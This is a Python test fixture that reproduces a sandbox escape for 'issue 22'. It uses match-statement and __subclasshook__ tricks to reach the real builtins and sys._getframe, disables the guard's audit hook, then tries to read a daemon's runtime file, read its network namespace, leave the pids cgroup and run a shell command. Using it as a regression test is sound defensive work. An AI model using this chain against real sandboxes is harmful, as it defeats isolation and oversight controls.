# The escape chain of issue 22, as one snippet (test fixture): the static check of main accepted
# it; a match capture binds __match_args__, an ABC's __subclasshook__ makes every object match the
# class pattern, which reads attributes named by runtime strings; print.__self__ is the real
# builtins; sys._getframe(1) reaches the guard's frame and switches its audit hook off. Then it
# tries what the outside attack did: read the daemon's runtime file (path on STDIN), reach the
# daemon's network namespace, leave the pids cgroup, and run a shell. STDIN is JSON naming the
# runtime file and the daemon's pid.
import collections
import json
def getter(name):
    class G(collections.ChainMap):
        def __subclasshook__(*args):
            return True
        match (name,):
            case __match_args__:
                pass
    return G
def get(obj, name):
    G = getter(name)
    match obj:
        case G(value):
            return value
u = '_' * 2
real_builtins = get(print, u + 'self' + u)
imp = get(real_builtins, u + 'import' + u)
sys = imp('sys')
frame = get(sys, '_getframe')(1)
get(frame, 'f_locals')['finished'].append(True)
print('audit hook off')
os = imp('os')
fopen = get(real_builtins, 'op' + 'en')
target = json.loads(STDIN)
results = {'uid': os.getuid()}
def attempt(label, action):
    try:
        results[label] = action()
    except BaseException as error:
        results[label] = repr(error)
attempt("runtime file", lambda: fopen(target["runtime_file"]).read())
attempt('daemon network namespace', lambda: os.readlink('/proc/%d/ns/net' % target['daemon_pid']))
attempt('leave pids cgroup', lambda: fopen('/sys/fs/cgroup/pids/cgroup.procs', 'w').write(str(os.getpid())))
attempt('shell', lambda: os.popen('id').read())
print(json.dumps(results))
